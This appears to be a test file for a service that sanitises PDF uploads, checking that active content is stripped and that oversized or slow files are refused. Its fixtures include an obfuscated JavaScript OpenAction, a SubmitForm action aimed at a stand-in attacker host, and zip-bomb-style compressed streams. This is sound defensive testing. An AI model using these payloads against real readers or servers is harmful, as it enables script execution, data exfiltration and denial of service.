import { readFileSync } from 'node:fs';
import { setTimeout } from 'node:timers/promises';
import { deflateSync } from 'node:zlib';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../../../../test/app.ts';
import { BEHIND_PROXY, someIp } from '../../../../test/call.ts';
import { isNight } from '../../../../test/night.ts';
import {
  ACTIVE,
  loadedPdf,
  namesIn,
  PDF_TEXT,
  pdfOf,
  protectedPdf,
  streamOf,
  textOfPdf,
} from '../../../../test/pdf-files.ts';
import { PDF_LIMITS } from './limits.ts';
import { rebuildPdf } from './rebuild-pdf.ts';

let app: TestApp;
beforeAll(async () => {
  app = await createTestApp({ env: BEHIND_PROXY });
});
afterAll(() => app.close());

interface Answer {
  readonly id?: string;
  readonly code?: string;
  readonly fields?: { readonly file?: readonly [{ readonly code: string; readonly message: string }] };
}
async function attach(bytes: Buffer) {
  const response = await app.fetch('/api/sac/attachments', {
    method: 'POST',
    headers: { 'x-forwarded-for': someIp(), 'content-type': 'application/octet-stream' },
    body: new Uint8Array(bytes),
  });
  return { status: response.status, body: (await response.json()) as Answer };
}
async function kept(id: string | undefined): Promise<Buffer> {
  const row = await app.services.db.sacAttachment.findUniqueOrThrow({ where: { id: id ?? '' } });
  return (await app.services.storage.privateFiles.read(row.key)) ?? Buffer.of();
}
const active = (bytes: Buffer) => namesIn(bytes).filter((name) => ACTIVE.test(name));

const MB = 1024 * 1024;
const script = '<</S/J#61vaScript/J#53(app.alert\\(1\\))>>';
const many = Array.from({ length: 250_000 }, (_, index) => `${index + 10} 0 obj 0`).join('\n');
/** Each object looks for its end through all of the file. */
const slow = (): Buffer => Buffer.concat([pdfOf(), Buffer.from('7 0 obj<<>>stream '.repeat(90_000))]);

describe('a PDF that a stranger sends', () => {
  it.each<[string, () => Buffer | Promise<Buffer>]>([
    ['a script', () => pdfOf({ catalog: `/OpenAction ${script}` })],
    ['a form that sends', () => pdfOf({ page: '/AA<</O<</S/SubmitForm/F(https://evil.example)>>>>' })],
    ['files, forms and scripts in packed objects', loadedPdf],
  ])('is kept without %s', async (_what, bytes) => {
    const { status, body } = await attach(await bytes());
    expect(status).toBe(201);
    const clean = await kept(body.id);
    expect(active(clean)).toEqual([]);
    expect(await textOfPdf(clean)).toBe(PDF_TEXT);
  });

  const bomb = (size: number) => deflateSync(Buffer.alloc(size));
  const packed = '/Type/ObjStm/N 1/First 5/Filter/FlateDecode';
  it.each<[string, [number, string, string], () => Buffer | Promise<Buffer>]>([
    ['is protected', [415, 'FILE_UNEXPECTED', 'pdf_protected'], protectedPdf],
    ['can’t be read', [415, 'FILE_UNEXPECTED', 'pdf_unreadable'], () => Buffer.from('%PDF-1.7\nnada')],
    ['has 250,000 objects', [413, 'FILE_LARGE', 'pdf_heavy'], () => pdfOf({ objects: many })],
    [
      'is a bomb',
      [413, 'FILE_LARGE', 'pdf_heavy'],
      () => pdfOf({ contents: streamOf(6, '/Filter/FlateDecode', bomb(PDF_LIMITS.opened + MB)) }),
    ],
    [
      'is a bomb of packed objects, which fills the memory of the one who reads it',
      [413, 'FILE_LARGE', 'pdf_heavy'],
      () => Buffer.concat([pdfOf(), streamOf(9, packed, bomb(PDF_LIMITS.memory))]),
    ],
  ])(
    'is refused in words when it %s',
    async (_what, expected, bytes) => {
      const { status, body } = await attach(await bytes());
      const problem = body.fields?.file?.[0];
      expect([status, body.code, problem?.code]).toEqual(expected);
      expect(problem?.message).toContain('PDF');
    },
    60_000,
  );

  it('is ended when it takes too long, and meanwhile everybody else is answered', async () => {
    let isEnded = false;
    // It works for as long as it may: for all of it at night alone.
    const ended = (
      isNight ? attach(slow()).then(({ body }) => body) : rebuildPdf(() => Promise.resolve(slow()), 3)
    )
      .catch((refused: unknown) => refused)
      .finally(() => {
        isEnded = true;
      });
    let answered = 0;
    for (; !isEnded; answered += 1) {
      expect((await app.fetch('/healthz')).status).toBe(200);
      await setTimeout(50);
    }
    // Those but the last were answered while it worked.
    expect(answered).toBeGreaterThan(1);
    expect(await ended).toMatchObject({ code: 'FILE_LARGE' });
    expect((await attach(pdfOf())).status).toBe(201);
  }, 60_000);
});

const TOKENS = [
  '/OpenAction',
  '/J#53(x)',
  '<<',
  '>>',
  '3 0 R',
  '[',
  'stream\n',
  'endstream',
  '/A<</S/URI/URI(x)>>',
  '\0',
  '%%EOF',
];
/** Puts a word of PDFs, or noise, over, into or instead of a part of the file. */
const change = fc.record({
  at: fc.double({ min: 0, max: 1, noNaN: true }),
  cut: fc.nat({ max: 40 }),
  put: fc.oneof(
    fc.constantFrom(...TOKENS).map((token) => Buffer.from(token)),
    fc.uint8Array({ maxLength: 8 }).map((noise) => Buffer.from(noise)),
  ),
});
const changed = (bytes: Buffer, changes: readonly { at: number; cut: number; put: Buffer }[]) =>
  changes.reduce((given, { at, cut, put }) => {
    const place = 5 + Math.floor(at * (given.length - 5));
    return Buffer.concat([given.subarray(0, place), put, given.subarray(place + cut)]);
  }, bytes);

describe('PDFs with random faults', () => {
  it('are kept clean or refused by a code, never anything else', async () => {
    const printed = readFileSync(new URL('../../../../test/chromium-print.pdf', import.meta.url));
    const sources = [printed, await loadedPdf(), pdfOf({ catalog: `/OpenAction ${script}` })];
    const property = fc.asyncProperty(
      fc.constantFrom(...sources),
      fc.array(change, { minLength: 1, maxLength: 12 }),
      async (source, changes) => {
        const { status, body } = await attach(changed(source, changes));
        expect([201, 413, 415]).toContain(status);
        expect(status === 201 ? active(await kept(body.id)) : []).toEqual([]);
      },
    );
    // The same faults in each run, more of them at night; a failure prints what it takes to repeat it.
    await fc.assert(property, { seed: 20_261_122, numRuns: isNight ? 24 : 8, endOnFailure: true });
  }, 180_000);
});
